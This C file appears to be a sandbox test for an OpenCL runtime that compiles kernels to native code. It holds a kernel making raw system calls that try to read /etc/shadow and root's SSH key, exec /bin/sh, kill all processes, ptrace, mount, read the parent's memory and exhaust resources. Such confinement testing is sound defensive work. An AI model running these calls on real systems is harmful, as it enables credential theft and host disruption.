// hostile: a kernel that attacks its host, as native code. "hostile ATTACK" prints what the attack's system call gave back, if the
// kernel lived to tell. "hostile source TEXT" builds that text and prints how that went, its log, and what its kernel `k` writes.
#include <string.h>

#include "cl_program.h"

// System calls by their numbers on x86-64; `text` is what they point to.
static const char kSource[] =
    "long call(long number, long a, long b, long c, long d) {\n"
    "  long result;\n"
    "  __asm__ volatile(\"mov %5, %%r10; syscall\" : \"=a\"(result) : \"a\"(number), \"D\"(a), \"S\"(b), \"d\"(c), \"g\"(d)\n"
    "                   : \"rcx\", \"r10\", \"r11\", \"memory\");\n"
    "  return result;\n"
    "}\n"
    "__kernel void attack(__global long* out, __global const char* text, int which) {\n"
    "  const long at = (long)text;\n"
    "  switch (which) {\n"
    "    case 0: out[0] = call(2, at, 0, 0, 0); break;                 // open for reading\n"
    "    case 1: out[0] = call(2, at, 0x42, 0644, 0); break;           // open, to be made\n"
    "    case 2: out[0] = call(57, 0, 0, 0, 0); break;                 // fork\n"
    "    case 3: out[0] = call(59, at, 0, 0, 0); break;                // execve\n"
    "    case 4: out[0] = call(41, 2, 1, 0, 0); break;                 // socket\n"
    "    case 5: out[0] = call(101, 16, 1, 0, 0); break;               // ptrace\n"
    "    case 6: out[0] = call(62, -1, 9, 0, 0); break;                // kill all\n"
    "    case 7: for (;;) out[1] += 1;                                 // for ever\n"
    "    case 8: *(volatile long*)8 = 1; break;\n"
    "    case 9: out[0] = call(160, 7, at, 0, 0); break;               // setrlimit\n"
    "    case 10: out[0] = call(165, at, at, at, 0); break;            // mount\n"
    "    case 11: out[0] = call(272, 0x10000000, 0, 0, 0); break;      // unshare\n"
    "    case 12: out[0] = call(310, call(110, 0, 0, 0, 0), 0, 0, 0); break;  // process_vm_readv of its parent\n"
    "    case 13:                                                      // all over its own memory, until it ends\n"
    "      for (long i = 0;; i += 0x10000)                             // a page in sixteen, as each must be made first\n"
    "        for (long j = 0; j < 0x1000; j += 8) *(volatile long*)(at + i + j) = 0x4141414141414141;\n"
    "    case 14: out[0] = call(231, 0, 0, 0, 0); break;               // exit_group, as if all were well\n"
    "    case 15:                                                      // its own descriptors: into each, then closed\n"
    "      for (long fd = 3; fd < 64; ++fd) { call(1, fd, at, 8, 0); call(3, fd, 0, 0, 0); }\n"
    "      out[0] = 0;\n"
    "      break;\n"
    "    case 16:                                                      // as much memory as there is\n"
    "      for (long end = call(12, 0, 0, 0, 0);; end += 0x1000000) {\n"
    "        if (call(12, end + 0x1000000, 0, 0, 0) != end + 0x1000000) break;\n"
    "        for (long i = 0; i < 0x1000000; i += 0x1000) *(volatile long*)(end + i) = 1;\n"
    "      }\n"
    "      out[0] = 0;\n"
    "      break;\n"
    "  }\n"
    "}\n";

static const struct {
  const char *name, *text;
  int which;
} kAttacks[] = {{"read-passwords", "/etc/shadow", 0}, {"read-keys", "/root/.ssh/id_rsa", 0}, {"read-proc", "/proc/1/environ", 0},
                {"list-root", "/", 0},               {"write-root", "/owned", 1},          {"write-dev", "/dev/shm/owned", 1},
                {"write-bin", "/usr/bin/owned", 1},  {"fork", "", 2},                      {"exec", "/bin/sh", 3},
                {"socket", "", 4},                   {"ptrace", "", 5},                    {"kill", "", 6},
                {"spin", "", 7},                     {"crash", "", 8},                     {"limits", "", 9},
                {"mount", "/tmp", 10},               {"unshare", "", 11},                  {"parents-memory", "", 12},
                {"scribble", "", 13},                {"exit", "", 14},                     {"descriptors", "AAAAAAAA", 15},
                {"hoard", "", 16}};

int main(int argc, char** argv) {
  const Cl cl = OpenDevice(0);
  if (argc == 3) {
    cl_int error;
    const char* source = argv[2];
    cl_program program = clCreateProgramWithSource(cl.context, 1, &source, NULL, &error);
    printf("%d\n", clBuildProgram(program, 1, &cl.device, "", NULL, NULL));
    static char log[1 << 16];
    clGetProgramBuildInfo(program, cl.device, CL_PROGRAM_BUILD_LOG, sizeof log, log, NULL);
    puts(log);
    fflush(stdout);
    char bytes[65] = "";
    cl_mem out = MakeBuffer(cl, CL_MEM_READ_WRITE | CL_MEM_COPY_HOST_PTR, 64, bytes);
    cl_kernel k = clCreateKernel(program, "k", &error);
    Check("clCreateKernel", error);
    const size_t one = 1;
    Check("clSetKernelArg", clSetKernelArg(k, 0, sizeof out, &out));
    Check("clEnqueueNDRangeKernel", clEnqueueNDRangeKernel(cl.queue, k, 1, NULL, &one, NULL, 0, NULL, NULL));
    Check("clEnqueueReadBuffer", clEnqueueReadBuffer(cl.queue, out, CL_TRUE, 0, 64, bytes, 0, NULL, NULL));
    printf("it wrote: %s\n", bytes);
    return 0;
  }
  cl_kernel kernel = MakeKernel(cl, kSource, "attack");
  cl_long out[8] = {-1000};
  static char text[4096];
  int which = -1;
  for (size_t i = 0; i < sizeof kAttacks / sizeof kAttacks[0]; ++i) {
    if (argc != 2 || strcmp(argv[1], kAttacks[i].name) != 0) continue;
    which = kAttacks[i].which;
    strcpy(text, kAttacks[i].text);
  }
  if (which < 0) return 2;
  cl_mem buffer = MakeBuffer(cl, CL_MEM_READ_WRITE | CL_MEM_COPY_HOST_PTR, sizeof out, out);
  cl_mem texts = MakeBuffer(cl, CL_MEM_READ_WRITE | CL_MEM_COPY_HOST_PTR, sizeof text, text);
  const size_t one = 1;
  Check("clSetKernelArg", clSetKernelArg(kernel, 0, sizeof buffer, &buffer));
  Check("clSetKernelArg", clSetKernelArg(kernel, 1, sizeof texts, &texts));
  Check("clSetKernelArg", clSetKernelArg(kernel, 2, sizeof which, &which));
  puts("attacks");
  fflush(stdout);
  Check("clEnqueueNDRangeKernel", clEnqueueNDRangeKernel(cl.queue, kernel, 1, NULL, &one, NULL, 0, NULL, NULL));
  Check("clEnqueueReadBuffer", clEnqueueReadBuffer(cl.queue, buffer, CL_TRUE, 0, sizeof out, out, 0, NULL, NULL));
  printf("%ld\n", (long)out[0]);
  return 0;
}
